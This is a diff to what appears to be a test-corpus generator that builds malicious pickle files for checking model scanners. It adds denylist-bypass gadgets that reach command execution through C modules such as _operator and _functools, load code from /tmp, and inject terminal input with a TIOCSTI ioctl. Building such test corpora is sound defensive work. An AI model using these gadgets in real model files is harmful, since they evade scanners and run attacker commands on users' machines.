@@ -504,6 +504,16 @@ def techniques():
         ("modelscan_self", "modelscan.modelscan", "ModelScan", NONE),
         ("os_system_via_posixpath", "posixpath", "os.system", u(CMD)),
         ("code_compile_command", "codeop", "compile_command", u("print('pwned')")),
+        # The C modules behind denylisted Python ones export the same objects.
+        ("c_operator_attrgetter", "_operator", "attrgetter", u("system")),
+        ("c_operator_methodcaller", "_operator", "methodcaller", u("system") + u(CMD)),
+        ("operator_call", "operator", "call", u(CMD)),
+        ("c_functools_partial", "_functools", "partial", u(CMD)),
+        ("imp_create_dynamic", "_imp", "create_dynamic", u("/tmp/pwned.so")),
+        ("frozen_importlib_source_loader", "_frozen_importlib_external", "SourceFileLoader",
+         u("pwned") + u("/tmp/pwned.py")),
+        ("testcapi_run_in_subinterp", "_testcapi", "run_in_subinterp", u("print('pwned')")),
+        ("fcntl_ioctl_tiocsti", "fcntl", "ioctl", binint(0) + binint(0x5412) + u("e")),
     ]
     for name, mod, attr, args in gadgets:
         p = 4 if "." in attr else 2
@@ -617,6 +627,8 @@ def write_all():
     for d in dirs.values():
         os.makedirs(d, exist_ok=True)
         for f in os.listdir(d):
+            if f.startswith("pkl_rt_"):
+                continue  # written by gen_gadget_tricks.py and gen_allowlist_tricks.py
             if f.startswith("pkl_") and not f.startswith("pkl_torch_") or (
                     f.startswith("pkl_torch_") and HAVE_TORCH):
                 os.unlink(os.path.join(d, f))
